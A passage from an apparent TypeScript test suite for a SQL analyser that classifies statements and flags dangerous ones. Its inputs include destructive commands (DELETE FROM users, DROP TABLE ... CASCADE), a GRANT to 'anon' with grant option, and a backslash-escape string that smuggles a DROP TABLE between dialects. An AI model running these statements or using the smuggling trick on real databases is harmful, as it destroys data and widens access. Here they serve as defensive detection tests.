    const sql = 'DO $$ BEGIN DELETE FROM users; END $$';
    const inner = analyzeSql(sql).statements[1] as SqlStatement;
    expect(sql.slice(inner.pos, inner.end)).toBe('DELETE FROM users');
  });

  it('judges a computed EXECUTE string by its constant text and marks it as known only at run time', () => {
    // Granting to a role held in a variable: valid SQL whose shape is harmless.
    const grant = analyzeSql("DO $$ DECLARE r text := 'anon'; BEGIN EXECUTE 'GRANT SELECT ON t TO ' || r || ' WITH GRANT OPTION'; END $$");
    expect(grant.statements.map((s) => s.kind)).toEqual(['other', 'grant']);
    expect(grant.errors).toEqual([expect.objectContaining({ runtime: true })]);
    // A drop of a table named at run time is still a drop.
    const drop = analyzeSql("DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t) || ' CASCADE'; END $$");
    expect(drop.statements.map((s) => s.kind)).toContain('drop-table');
    expect(drop.errors.every((error) => error.runtime)).toBe(true);
    // A variable alone says nothing: still an error, marked as run-time text.
    expect(analyzeSql('DO $$ BEGIN EXECUTE v_sql; END $$').errors).toEqual([expect.objectContaining({ runtime: true })]);
    // Text that does not parse is not run-time text.
    expect(analyzeSql('SELECT 1; DROP TABLE WHERE', 'postgres').errors.every((error) => !error.runtime)).toBe(true);
  });

  it('reports the position of a syntax error', () => {
    const { errors } = analyzeSql('SELECT 1; DROP TABLE WHERE', 'postgres');
    expect(errors[0]?.pos).toBeGreaterThanOrEqual(10);
  });

  it('gives MySQL statements the mysql dialect, and PostgreSQL ones postgres, in auto mode', () => {
    const result = analyzeSql('DELETE FROM `users`; SELECT 1');
    expect(result.dialect).toBe('mysql');
    expect(result.statements.map((s) => s.dialect)).toEqual(['mysql', 'postgres']);
  });

  it('says when PostgreSQL and MySQL would split the text differently', () => {
    // In PostgreSQL the backslash does not escape: the DROP is a statement of its own.
    const sql = "SELECT 'a\\'; DROP TABLE users; SELECT ''' ; garbage(";
    const result = analyzeSql(sql);
    expect(result.errors.length).toBeGreaterThan(0);
  });
});
